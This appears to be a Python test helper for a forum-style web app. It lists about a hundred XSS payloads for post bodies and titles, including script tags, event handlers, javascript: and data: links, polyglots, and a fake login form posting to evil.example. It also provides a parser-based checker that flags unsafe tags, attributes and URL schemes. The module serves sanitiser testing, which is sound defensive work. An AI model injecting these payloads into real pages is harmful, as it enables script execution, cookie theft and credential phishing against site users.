"""Hostile post bodies and titles, and a checker for HTML that claims to be safe.

Plain module, no pytest fixtures: page tests and browser tests import ``XSS_PAYLOADS`` and
``assert_harmless`` too. ``assert_harmless`` is meant for a fragment built from user input (a
rendered post body, a title): a whole page legitimately has ``<script>``, ``<link>`` and
links without ``rel``. For a page, check the fragment, or compare ``find_dangers`` of the
hostile page with that of the same page rendered from harmless input.
"""

import html
import re
from html.parser import HTMLParser

XSS_PAYLOADS: list[str] = [
    # script tags
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script src=https://evil.example/x.js>",
    "<script>alert(1)",
    '<script type="module">import("https://evil.example/x.js")</script>',
    "<<script>script>alert(1)<</script>/script>",
    # event handlers
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(document.cookie)">',
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<body onload=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    '<div onmouseover="alert(1)">hover</div>',
    "<details open ontoggle=alert(1)>",
    '<input autofocus onfocus="alert(1)">',
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>x</marquee>",
    # javascript: in Markdown links, images, autolinks and reference links
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1))",
    "[click](java\tscript:alert(1))",
    "[click](<java\nscript:alert(1)>)",
    "[click]( javascript:alert(1))",
    "[click](\x00javascript:alert(1))",
    "[click](<javascript:alert(1)>)",
    "[click](javascript&colon;alert(1))",
    "[click](javascript%3Aalert(1))",
    "![x](javascript:alert(1))",
    '![x](x" onerror="alert(1))',
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    "[click][evil]\n\n[evil]: javascript:alert(1)",
    '[click][evil]\n\n[evil]: <javascript:alert(1)> "title"',
    "[a](javascript://%0Aalert(1))",
    # other dangerous schemes
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x](data:image/png;base64,iVBORw0KGgo=)",
    "[x](vbscript:msgbox(1))",
    "<vbscript:msgbox(1)>",
    "[x](file:///etc/passwd)",
    # embedding and page-hijacking tags
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<form action="https://evil.example"><input name=password><button>Log in</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">',
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    # style attributes
    '<p style="width: expression(alert(1))">x</p>',
    "<div style=\"background:url('javascript:alert(1)')\">x</div>",
    '<span style="position:fixed;top:0;left:0;width:100%;height:100%">cover</span>',
    # raw anchors
    '<a href="javascript:alert(1)">x</a>',
    '<a href="https://ok.example" onclick="alert(1)">x</a>',
    '<a href="&#1;javascript:alert(1)">x</a>',
    '<a href=" &#14;  javascript:alert(1)">x</a>',
    # entity and URL-encoded variants
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\<script>alert(1)\\</script>",
    # link title attribute breakouts
    '[a](http://x "onmouseover=alert(1)")',
    '[a](http://x "\\" onmouseover=\\"alert(1)")',
    "[a](http://x 'x\" onmouseover=\"alert(1)')",
    '[a](http://x" onmouseover="alert(1))',
    '![a](http://x/p.png "x\\" onerror=\\"alert(1)")',
    # template syntax must stay text
    "{{ request.user.password }}",
    "{% load evil %}{% debug %}",
    "{{ '<script>alert(1)</script>'|safe }}",
    # code spans and fences cannot close their element
    "`</code><script>alert(1)</script>`",
    "``</code></pre><img src=x onerror=alert(1)>``",
    "```\n</code></pre><script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "```js onerror=alert(1)\nx\n```",
    # HTML blocks and comments
    "<!-- <script>alert(1)</script> -->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<div>\n\n<script>alert(1)</script>\n\n</div>",
    # polyglots (OWASP XSS filter evasion cheat sheet and friends)
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//"
    "</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
    "'\"--></style></script><script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;"
    "&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<BODY ONLOAD=alert('XSS')>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "[<img src=x onerror=alert(1)>](https://ok.example)",
    "[![a](javascript:alert(1))](javascript:alert(2))",
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "> <script>alert(1)</script>\n> [x](javascript:alert(1))",
    "# <img src=x onerror=alert(1)>",
    "* [x](javascript:alert(1))\n* <svg onload=alert(1)>",
]

# Elements no user-supplied fragment may contain.
FORBIDDEN_ELEMENTS = frozenset(
    {
        "script",
        "iframe",
        "frame",
        "frameset",
        "object",
        "embed",
        "applet",
        "style",
        "form",
        "input",
        "button",
        "textarea",
        "select",
        "img",
        "svg",
        "math",
        "base",
        "meta",
        "link",
        "video",
        "audio",
        "source",
        "portal",
        "noscript",
        "template",
        "marquee",
    }
)
# Attributes that hold a URL a browser may follow, load or run.
URL_ATTRIBUTES = frozenset(
    {
        "href",
        "src",
        "action",
        "formaction",
        "data",
        "xlink:href",
        "poster",
        "background",
        "srcset",
        "ping",
        "cite",
        "lowsrc",
        "dynsrc",
    }
)
SAFE_SCHEMES = frozenset({"http", "https", "mailto"})
REQUIRED_REL = frozenset({"nofollow", "ugc", "noopener"})

# A browser drops leading and trailing C0 controls and spaces from a URL and removes tabs and
# newlines anywhere in it, so "\x01 java\tscript:" is a javascript: URL.
_URL_EDGE = "".join(chr(c) for c in range(0x21))
_URL_INNER = re.compile(r"[\t\n\r]")
_SCHEME = re.compile(r"^([a-zA-Z][a-zA-Z0-9+.\-]*):")
# In sanitised output every "<" in text is escaped, so any raw "<tag" is a real tag. This is a
# second opinion alongside the parser, in case html.parser and a browser disagree.
_RAW_FORBIDDEN_TAG = re.compile(r"<\s*/?\s*(" + "|".join(sorted(FORBIDDEN_ELEMENTS)) + r")\b", re.IGNORECASE)


def url_scheme(value: str) -> str | None:
    """The scheme a browser would see in an attribute value (already entity-decoded by
    html.parser), lower-cased; None for a relative URL."""
    url = _URL_INNER.sub("", value.strip(_URL_EDGE))
    match = _SCHEME.match(url)
    return match.group(1).lower() if match else None


class _DangerFinder(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.dangers: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in FORBIDDEN_ELEMENTS:
            self.dangers.append(f"<{tag}> element")
        for name, value in attrs:
            if name.startswith("on"):
                self.dangers.append(f"<{tag} {name}> event handler")
            elif name in ("style", "srcdoc"):
                self.dangers.append(f"<{tag} {name}> attribute")
            elif name in URL_ATTRIBUTES:
                # html.parser decodes entities in attribute values; decoding again catches a
                # value that was double-encoded on the way in.
                for candidate in {value or "", html.unescape(value or "")}:
                    scheme = url_scheme(candidate)
                    if scheme not in SAFE_SCHEMES:
                        self.dangers.append(f"<{tag} {name}={candidate!r}> URL with scheme {scheme!r}")
        if tag == "a":
            rel = set((dict(attrs).get("rel") or "").lower().split())
            if missing := REQUIRED_REL - rel:
                self.dangers.append(f"<a rel={' '.join(sorted(rel))!r}> lacks {' '.join(sorted(missing))}")

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)

    def handle_comment(self, data: str) -> None:
        if data.lstrip().lower().startswith("[if"):
            self.dangers.append("conditional comment")

    def handle_pi(self, data: str) -> None:
        self.dangers.append(f"processing instruction <?{data}>")

    def unknown_decl(self, data: str) -> None:
        self.dangers.append(f"declaration <![{data}]>")


def find_dangers(html_fragment: str) -> list[str]:
    """Every reason ``html_fragment`` could run script, load a resource or hide a link's
    nature; empty when it is harmless. Relative URLs count as unsafe: rendered posts only
    ever carry absolute http(s)/mailto ones."""
    finder = _DangerFinder()
    finder.feed(html_fragment)
    finder.close()
    dangers = finder.dangers
    dangers.extend(f"raw {match.group(0)!r} in the markup" for match in _RAW_FORBIDDEN_TAG.finditer(html_fragment))
    return dangers


def assert_harmless(html_fragment: str) -> None:
    dangers = find_dangers(html_fragment)
    assert not dangers, f"unsafe HTML: {dangers}\n{html_fragment}"
